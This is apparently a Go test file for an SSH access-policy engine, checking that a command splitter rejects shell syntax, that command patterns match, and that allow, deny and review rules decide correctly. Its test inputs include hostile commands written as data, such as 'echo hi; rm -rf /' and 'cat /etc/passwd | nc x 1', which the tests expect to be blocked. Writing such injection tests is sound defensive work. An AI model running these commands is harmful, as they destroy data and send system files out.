// SPDX-License-Identifier: Apache-2.0

package policy_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/tollgate-dev/tollgate/policy"
)

func TestSplitCommand(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []string
		err  error
	}{
		{"systemctl restart app", []string{"systemctl", "restart", "app"}, nil},
		{"  echo   'hello world'  ", []string{"echo", "hello world"}, nil},
		{`echo "a \"b\" \\ c" d\ e`, []string{"echo", `a "b" \ c`, "d e"}, nil},
		{"echo 'a;b|c' x#y", []string{"echo", "a;b|c", "x#y"}, nil},
		{"echo hi; rm -rf /", nil, policy.ErrCompoundCommand},
		{"echo hi && id", nil, policy.ErrCompoundCommand},
		{"cat /etc/passwd | nc x 1", nil, policy.ErrCompoundCommand},
		{"echo $(id)", nil, policy.ErrCompoundCommand},
		{"echo \"$(id)\"", nil, policy.ErrCompoundCommand},
		{"echo `id`", nil, policy.ErrCompoundCommand},
		{"echo hi > /etc/x", nil, policy.ErrCompoundCommand},
		{"echo hi\nid", nil, policy.ErrCompoundCommand},
		{"ls *.log", nil, policy.ErrCompoundCommand},
		{"cat ~root/x", nil, policy.ErrCompoundCommand},
		{"echo # comment", nil, policy.ErrCompoundCommand},
		{"echo 'open", nil, nil},
		{"", nil, nil},
	} {
		got, err := policy.SplitCommand(tc.in)
		switch {
		case tc.want != nil:
			if err != nil || !slices.Equal(got, tc.want) {
				t.Errorf("SplitCommand(%q) = %q, %v; want %q", tc.in, got, err, tc.want)
			}
		case tc.err != nil:
			if !errors.Is(err, tc.err) {
				t.Errorf("SplitCommand(%q) = %q, %v; want %v", tc.in, got, err, tc.err)
			}
		default:
			if err == nil {
				t.Errorf("SplitCommand(%q) = %q; want an error", tc.in, got)
			}
		}
	}
}

func TestMatchCommand(t *testing.T) {
	for _, tc := range []struct {
		pattern, cmd string
		want         bool
	}{
		{"systemctl restart app", "systemctl restart app", true},
		{"systemctl restart app", "/usr/bin/systemctl restart app", true},
		{"/usr/bin/systemctl restart app", "systemctl restart app", false},
		{"systemctl restart *", "systemctl restart web-1", true},
		{"systemctl restart *", "systemctl restart", false},
		{"systemctl restart *", "systemctl restart a b", false},
		{"systemctl **", "systemctl", true},
		{"systemctl **", "systemctl stop a b", true},
		{"systemctl status", "systemctl stop", false},
		{"cat /var/log/*", "cat /var/log/app/x.log", true},
		{"echo ?", "echo ab", false},
		{"echo", "echoo", false},
	} {
		words, err := policy.SplitCommand(tc.cmd)
		if err != nil {
			t.Fatal(err)
		}
		if got := policy.MatchCommand(tc.pattern, words); got != tc.want {
			t.Errorf("MatchCommand(%q, %q) = %v, want %v", tc.pattern, tc.cmd, got, tc.want)
		}
	}
}

// TestDecideSSH judges SSH requests with the statement rules' semantics:
// commands narrow a rule to exec requests, forwarding needs a rule that
// names it and its destination, and a compound command escapes no rule.
func TestDecideSSH(t *testing.T) {
	cfg := &policy.Config{Rules: []policy.Rule{
		{ID: "deploy", Action: policy.ActionAllow, When: policy.Conditions{Identities: []string{"ci"}, Targets: []string{"web"},
			Classes: []policy.Class{policy.ClassExec}, Commands: []string{"systemctl restart *", "echo **", "true"}}},
		{ID: "no-stop", Action: policy.ActionDeny, Reason: "stops go through change management",
			When: policy.Conditions{Commands: []string{"systemctl stop **"}}},
		{ID: "reboot", Action: policy.ActionReview, When: policy.Conditions{Commands: []string{"reboot"}},
			Approvers: policy.Approvers{Groups: []string{"ops"}}},
		{ID: "ops-all", Action: policy.ActionAllow, When: policy.Conditions{Identities: []string{"ops"}}},
		{ID: "ops-fwd", Action: policy.ActionAllow, When: policy.Conditions{Identities: []string{"ops"},
			Classes: []policy.Class{policy.ClassForwardLocal}, Forwards: []string{"127.0.0.1:5432"}}},
	}}
	e := policy.NewEngine(cfg)
	req := func(ident string, class policy.Class, cmd, fwd string) policy.Request {
		r := policy.Request{Identities: []string{ident}, Target: "web", Classes: []policy.Class{class}, Forward: fwd}
		if cmd != "" {
			r.Command, _ = policy.SplitCommand(cmd)
		}
		return r
	}
	for _, tc := range []struct {
		name string
		req  policy.Request
		want policy.Action
		rule string
	}{
		{"allowed command", req("ci", policy.ClassExec, "systemctl restart app", ""), policy.ActionAllow, "deploy"},
		{"echo", req("ci", policy.ClassExec, "echo hello", ""), policy.ActionAllow, "deploy"},
		{"other command", req("ci", policy.ClassExec, "id", ""), policy.ActionDeny, ""},
		{"compound", req("ci", policy.ClassExec, "", ""), policy.ActionDeny, ""},
		{"shell", req("ci", policy.ClassShell, "", ""), policy.ActionDeny, ""},
		{"deny beats allow-all", req("ops", policy.ClassExec, "systemctl stop app", ""), policy.ActionDeny, "no-stop"},
		{"review", req("ops", policy.ClassExec, "reboot", ""), policy.ActionReview, "reboot"},
		{"ops shell", req("ops", policy.ClassShell, "", ""), policy.ActionAllow, "ops-all"},
		{"ops compound", req("ops", policy.ClassExec, "", ""), policy.ActionAllow, "ops-all"},
		{"agent needs a rule", req("ops", policy.ClassAgentForward, "", ""), policy.ActionDeny, ""},
		{"forward named", req("ops", policy.ClassForwardLocal, "", "127.0.0.1:5432"), policy.ActionAllow, "ops-fwd"},
		{"forward elsewhere", req("ops", policy.ClassForwardLocal, "", "127.0.0.1:22"), policy.ActionDeny, ""},
	} {
		d := e.Decide(tc.req)
		if d.Action != tc.want || d.Rule != tc.rule {
			t.Errorf("%s: got %s by %q (%s), want %s by %q", tc.name, d.Action, d.Rule, d.Reason, tc.want, tc.rule)
		}
	}
}

// FuzzSplitCommand checks the splitter never panics, never returns an empty
// word list without an error, and never lets shell syntax through.
func FuzzSplitCommand(f *testing.F) {
	for _, s := range []string{"systemctl restart app", `echo "a \"b\"" 'c d'`, "a;b", "x\\", "'", `"$x"`, "a#b #c"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		words, err := policy.SplitCommand(s)
		if err != nil {
			return
		}
		if len(words) == 0 {
			t.Fatalf("SplitCommand(%q): no words and no error", s)
		}
		// Outside quotes and escapes nothing the shell interprets may pass.
		unq := stripQuoted(s)
		if strings.ContainsAny(unq, ";&|<>()$`\n*?[{~") {
			t.Fatalf("SplitCommand(%q) = %q: shell syntax passed", s, words)
		}
	})
}

// stripQuoted drops quoted parts and escaped characters, leaving what the
// shell reads as syntax.
func stripQuoted(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\'':
			j := strings.IndexByte(s[i+1:], '\'')
			if j < 0 {
				return b.String()
			}
			i += j + 1
		case '"':
			for i++; i < len(s) && s[i] != '"'; i++ {
				if s[i] == '\\' {
					i++
				}
			}
		case '\\':
			i++
		default:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}
